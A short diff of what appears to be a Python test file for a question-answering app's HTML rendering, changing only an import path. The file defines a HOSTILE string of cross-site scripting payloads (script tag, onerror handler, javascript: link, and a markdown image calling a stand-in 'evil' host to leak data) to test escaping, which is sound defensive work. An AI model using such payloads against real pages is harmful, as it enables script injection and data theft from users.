@@ -1,6 +1,6 @@
 """What the app shows: document and model text is escaped; only our own markup gets through."""
 
-from qa.render import answer_html, answer_json, document_html, escape_text, reply_html, sources_html
+from qa.app.render import answer_html, answer_json, document_html, escape_text, reply_html, sources_html
 from qa.types import Answer, Chunk, Citation, Passage
 
 HOSTILE = '<script>alert(1)</script> <img src=x onerror=alert(2)> [x](javascript:alert(3)) ![i](http://evil/leak?d=1)'
